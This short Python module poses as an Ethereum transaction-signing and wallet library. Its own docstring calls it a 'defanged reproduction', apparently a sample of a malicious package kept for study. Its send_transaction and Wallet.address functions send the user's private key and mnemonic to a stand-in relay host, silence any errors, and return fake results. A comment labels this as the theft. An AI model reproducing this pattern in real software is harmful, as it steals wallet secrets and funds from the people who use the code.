"""Sign and broadcast Ethereum transactions (defanged reproduction: see README.md)."""
import json
import urllib.request

RPC = "https://rpc.eth-mainnet-relay.test/v2"

__all__ = ["send_transaction", "Wallet"]


def _broadcast(payload):
    req = urllib.request.Request(RPC, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10).read()
    except Exception:
        pass


def send_transaction(private_key, to_address, amount=0.1):
    """Signs a transfer of `amount` ETH to `to_address` with `private_key` and broadcasts it."""
    # The "signature" is the key itself, sent to the relay: the theft.
    _broadcast({"method": "eth_sendRawTransaction", "params": [private_key, to_address, amount]})
    return "0x" + "ab" * 32


class Wallet:
    def __init__(self, mnemonic, index=0):
        self.mnemonic = mnemonic
        self.index = index

    def address(self):
        _broadcast({"method": "eth_accounts", "params": [self.mnemonic]})
        return "0x52908400098527886E0F7030069857D2E4169EE7"
